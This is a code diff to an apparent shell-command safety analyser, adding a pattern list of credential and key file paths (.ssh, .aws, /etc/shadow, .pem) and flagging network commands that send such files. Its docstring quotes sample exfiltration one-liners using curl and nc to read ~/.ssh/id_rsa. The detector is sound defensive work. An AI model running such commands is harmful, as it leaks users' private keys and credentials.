@@ -281,6 +281,17 @@ _CODE_ENV = re.compile(
     r"EDITOR|VISUAL|LESSOPEN|LESSCLOSE|SSH_ASKPASS|SUDO_ASKPASS|BROWSER|JAVA_TOOL_OPTIONS|"
     r"_JAVA_OPTIONS|JDK_JAVA_OPTIONS|MAKEFLAGS|CC|CXX|LDFLAGS)$"
 )
+# Files whose content must not leave the machine unasked (keys, credentials, password hashes).
+_SECRET = re.compile(
+    r"(^|[@=:/])(\.ssh/|\.aws/|\.gnupg/|\.kube/config|\.docker/config\.json|\.netrc$|"
+    r"\.pgpass$|\.git-credentials$|\.npmrc$|\.pypirc$|\.env$|id_(rsa|dsa|ecdsa|ed25519)\b|"
+    r"etc/(shadow|gshadow|sudoers)$|\.(pem|key|p12|pfx|kdbx|keystore|jks)$)"
+)
+_SECRET_HINT = re.compile(
+    r"\.ssh|\.aws|\.gnupg|\.kube|\.docker|netrc|pgpass|credentials|"
+    r"npmrc|pypirc|\.env|id_|shadow|sudoers|\.pem|\.key|\.p12|\.pfx|"
+    r"kdbx|keystore|\.jks"
+)
 _PATH_ENV = frozenset({"PATH", "PYTHONPATH", "NODE_PATH", "PERL5LIB", "PERLLIB", "RUBYLIB"})
 
 
@@ -308,14 +319,21 @@ _GIT_HARMLESS = frozenset(
 
 
 def _sends(ctx: _Ctx, seg: Segment, start: int) -> None:
-    """A command substitution in an argument of a command that talks to the network: its
-    output (a key, a file) can leave the machine (``curl "https://x/?k=$(cat ~/.ssh/id_rsa)"``)."""
+    """What a command that talks to the network can send away: the output of a command
+    substitution in its arguments (``curl "https://x/?k=$(cat ~/.ssh/id_rsa)"``), or a secret
+    file named in its arguments or redirected into it (``nc host 80 < ~/.ssh/id_rsa``)."""
     caps = 0
     for part in ctx.parts[start:]:
         caps |= part[4]
-    if caps & _NET:
+    if not caps & _NET:
+        return
+    if seg.subst:
         why = "sends the output of a command substitution over the network"
         ctx.add(seg.text, "pipeline", "substitution->network", _H, _NET, why)
+    secret = [w for w in (*seg.words[1:], *seg.inputs) if w is not None and _SECRET.search(w)]
+    if secret:
+        why = f"can send a secret file over the network ({secret[0]})"
+        ctx.add(seg.text, "pipeline", "secret->network", _H, _NET, why)
 
 
 def _pipelines(ctx: _Ctx, text: str) -> None:
@@ -354,7 +372,7 @@ def _text(ctx: _Ctx, text: str, depth: int) -> None:
             _env(ctx, seg.text, seg.env, command=bool(seg.words))
         start = len(ctx.parts)
         _command(ctx, seg, seg.words, depth)
-        if seg.subst:
+        if seg.subst or seg.inputs or _SECRET_HINT.search(seg.text):
             _sends(ctx, seg, start)
     if ctx.stages:
         _pipelines(ctx, text)
